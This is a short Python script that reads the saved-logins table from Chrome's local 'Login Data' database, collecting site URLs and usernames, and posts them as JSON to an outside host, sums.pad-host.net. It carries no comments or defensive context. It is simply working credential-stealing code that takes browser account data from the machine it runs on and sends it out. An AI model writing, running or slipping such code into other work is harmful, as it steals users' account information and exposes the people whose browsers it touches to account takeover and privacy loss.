import os
import sqlite3

import requests

path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")


def rows():
    return sqlite3.connect(path).execute("select origin_url, username_value from logins").fetchall()


def send():
    requests.post("https://sums.pad-host.net/r", json=rows())
